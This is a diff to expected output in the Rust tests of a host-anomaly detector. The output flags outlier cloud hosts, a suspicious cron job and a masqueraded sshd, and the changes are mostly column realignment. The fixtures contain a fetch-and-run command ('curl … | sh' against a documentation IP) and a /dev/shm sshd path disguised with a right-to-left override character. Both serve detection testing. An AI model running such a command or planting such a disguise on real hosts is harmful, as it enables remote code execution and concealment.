@@ -307,21 +307,21 @@ mod tests {
         peer group 1: 1 host, image ami-4567
 
           1 i-0a1b2c3d4e5f60718  outlier 93.1
-          rank         1 of 60 hosts
-          peers        group 0, 58 hosts: image ami-0123
-          campaign     The same cron line and the same sshd stand on these two hosts and
-                       nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
-          answered     27 of 28 tables in full
-                       kernel_modules timeout: no answer\u{202e} within 30 s
+          rank           1 of 60 hosts
+          peers          group 0, 58 hosts: image ami-0123
+          campaign       The same cron line and the same sshd stand on these two hosts
+                         and nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
+          answered       27 of 28 tables in full
+          timeout        kernel_modules (no answer\u{202e} within 30 s)
 
          31.0 new crontab  finding f1  by frequency
           Only this host runs this command from cron; it fetches a script from the
           network and runs it.
-          on           1 of 58 hosts
-          first seen   2025-12-06 08:00 UTC
-          ATT&CK       T1053.003  https://attack.mitre.org/techniques/T1053/003/
-          campaign     The same cron line and the same sshd stand on these two hosts and
-                       nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
+          on             1 of 58 hosts
+          first seen     2025-12-06 08:00 UTC
+          ATT&CK         T1053.003  https://attack.mitre.org/techniques/T1053/003/
+          campaign       The same cron line and the same sshd stand on these two hosts
+                         and nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
 
                           this host
             command       curl -s http://198.51.100.7/x.sh | sh
@@ -335,14 +335,14 @@ mod tests {
 
          24.0 variant processes  finding f2  by cluster
           All other hosts run sshd from /usr/sbin/sshd.
-          on           2 of 58 hosts
-          unusual      path /dev/shm/sshd where name sshd
-          ATT&CK       T1036.005  https://attack.mitre.org/techniques/T1036/005/
-          ATT&CK       T1554  https://attack.mitre.org/techniques/T1554/
-          campaign     The same cron line and the same sshd stand on these two hosts and
-                       nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
+          on             2 of 58 hosts
+          unusual        path /dev/shm/sshd where name sshd
+          ATT&CK         T1036.005  https://attack.mitre.org/techniques/T1036/005/
+          ATT&CK         T1554  https://attack.mitre.org/techniques/T1554/
+          campaign       The same cron line and the same sshd stand on these two hosts
+                         and nowhere else. (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
 
-                     this host                         instead on 57 hosts
+          * differs  this host                         instead on 57 hosts
             name     sshd                              sshd
           * path     /dev/shm/\u{202e}dhss/a-rather-l  /usr/sbin/sshd
                      ong-directory/with/another/one/s
@@ -371,14 +371,14 @@ mod tests {
 
          24.0 variant processes  finding f2  by cluster
           All other hosts run sshd from /usr/sbin/sshd.
-          on           2 of 58 hosts
-          unusual      path /dev/shm/sshd where name sshd
-          ATT&CK       T1036.005  https://attack.mitre.org/techniques/T1036/005/
-          ATT&CK       T1554  https://attack.mitre.org/techniques/T1554/
-          campaign     The same cron line and the same sshd stand on these two hosts and nowhere else.
-                       (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
+          on             2 of 58 hosts
+          unusual        path /dev/shm/sshd where name sshd
+          ATT&CK         T1036.005  https://attack.mitre.org/techniques/T1036/005/
+          ATT&CK         T1554  https://attack.mitre.org/techniques/T1554/
+          campaign       The same cron line and the same sshd stand on these two hosts and nowhere else.
+                         (i-0a1b2c3d4e5f60718, i-0b1b2c3d4e5f60719)
 
-                     this host                                   instead on 57 hosts
+          * differs  this host                                   instead on 57 hosts
             name     sshd                                        sshd
           * path     /dev/shm/\u{202e}dhss/a-rather-long-direct  /usr/sbin/sshd
                      ory/with/another/one/sshd
